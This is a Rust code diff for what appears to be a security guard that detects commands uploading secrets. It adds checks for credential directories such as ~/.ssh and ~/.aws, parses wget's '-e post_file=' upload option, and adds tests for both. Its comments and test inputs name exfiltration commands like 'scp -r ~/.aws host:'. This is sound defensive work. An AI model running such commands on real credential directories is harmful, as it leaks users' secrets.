@@ -297,7 +297,13 @@ pub(crate) fn secret_path(path: &str) -> bool {
     if file.ends_with(".pub") {
         return false;
     }
-    FILES.contains(&file)
+    // A credential directory itself (`rclone copy ~/.ssh remote:`, `scp -r ~/.aws host:`).
+    let dir = p.trim_end_matches(['/', '\\']);
+    let dir_name = dir.rsplit(['/', '\\']).next().unwrap_or("");
+    let credential_dir = matches!(dir_name, ".ssh" | ".aws" | ".gnupg" | ".kube" | ".azure")
+        || dir.ends_with(".config/gcloud");
+    credential_dir
+        || FILES.contains(&file)
         || file.starts_with(".env.")
         || file.starts_with("id_rsa")
         || file.starts_with("id_dsa")
@@ -339,35 +345,60 @@ pub(crate) fn uploaded_files<'a>(name: &str, args: &'a [String]) -> impl Iterato
     ];
     let curl_like = matches!(name, "curl" | "wget");
     let mut prev: Option<&'a str> = None;
-    args.iter().filter_map(move |a| {
-        let before = prev.replace(a.as_str());
-        // The flag and its value: the next word, or attached (`-Tfile`, `--form=x=@f`).
-        let (flag, v) = match before {
-            Some(f) if FLAGS.contains(&f) => (Some(f), a.as_str()),
-            _ => match FLAGS.iter().find_map(|f| {
-                a.strip_prefix(f)
-                    .filter(|v| !v.is_empty() && (f.len() == 2 || v.starts_with('=')))
-                    .map(|v| (*f, v.strip_prefix('=').unwrap_or(v)))
-            }) {
-                Some((f, v)) => (Some(f), v),
-                None if !curl_like && !a.starts_with('-') => (None, a.as_str()),
-                None => return None,
-            },
+    // wget's `-e post_file=F` (a wgetrc command; case, `_` and `-` in its name do not count).
+    let is_wget = name == "wget";
+    let mut prev_e = false;
+    let wgetrc = args.iter().filter_map(move |a| {
+        let value = if std::mem::replace(&mut prev_e, false) {
+            Some(a.as_str())
+        } else {
+            a.strip_prefix("--execute=").or_else(|| {
+                a.strip_prefix("-e")
+                    .filter(|v| !v.is_empty() && !v.starts_with('-'))
+            })
         };
-        let whole_file = matches!(
-            flag,
-            Some("-T" | "--upload-file" | "--post-file" | "--body-file")
-        );
-        let file = v
-            .split_once("=@")
-            .or_else(|| v.split_once("=<"))
-            .map(|(_, f)| f)
-            .or_else(|| v.strip_prefix('@'))
-            .or_else(|| v.split_once('@').map(|(_, f)| f).filter(|_| !curl_like))
-            .or_else(|| whole_file.then_some(v))?;
-        // `;type=…` options after the file name in `-F`.
-        Some(file.split(';').next().unwrap_or(file))
-    })
+        if is_wget && value.is_none() && matches!(a.as_str(), "-e" | "--execute") {
+            prev_e = true;
+        }
+        let (key, file) = value.filter(|_| is_wget)?.split_once('=')?;
+        let key: String = key
+            .chars()
+            .filter(|c| *c != '_' && *c != '-')
+            .collect::<String>()
+            .to_ascii_lowercase();
+        matches!(key.trim(), "postfile" | "bodyfile").then(|| file.trim())
+    });
+    args.iter()
+        .filter_map(move |a| {
+            let before = prev.replace(a.as_str());
+            // The flag and its value: the next word, or attached (`-Tfile`, `--form=x=@f`).
+            let (flag, v) = match before {
+                Some(f) if FLAGS.contains(&f) => (Some(f), a.as_str()),
+                _ => match FLAGS.iter().find_map(|f| {
+                    a.strip_prefix(f)
+                        .filter(|v| !v.is_empty() && (f.len() == 2 || v.starts_with('=')))
+                        .map(|v| (*f, v.strip_prefix('=').unwrap_or(v)))
+                }) {
+                    Some((f, v)) => (Some(f), v),
+                    None if !curl_like && !a.starts_with('-') => (None, a.as_str()),
+                    None => return None,
+                },
+            };
+            let whole_file = matches!(
+                flag,
+                Some("-T" | "--upload-file" | "--post-file" | "--body-file")
+            );
+            let file = v
+                .split_once("=@")
+                .or_else(|| v.split_once("=<"))
+                .map(|(_, f)| f)
+                .or_else(|| v.strip_prefix('@'))
+                .or_else(|| v.split_once('@').map(|(_, f)| f).filter(|_| !curl_like))
+                .or_else(|| whole_file.then_some(v))?;
+            // `;type=…` options after the file name in `-F`.
+            Some(file.split(';').next().unwrap_or(file))
+        })
+        .chain(wgetrc)
 }
 
 /// Programs that send their input over the network.
@@ -546,6 +577,9 @@ mod tests {
         );
         assert_eq!(files("curl", "--data-binary @c.json https://x"), ["c.json"]);
         assert_eq!(files("wget", "--post-file=d.bin https://x"), ["d.bin"]);
+        assert_eq!(files("wget", "-e post_file=k https://x"), ["k"]);
+        assert_eq!(files("wget", "--execute=Body-File=k https://x"), ["k"]);
+        assert!(files("wget", "-e robots=off https://x").is_empty());
         assert_eq!(files("http", "POST https://x @e.json"), ["e.json"]);
         // Twins: data that is not a file.
         assert!(files("curl", "-d a=1 https://x").is_empty());
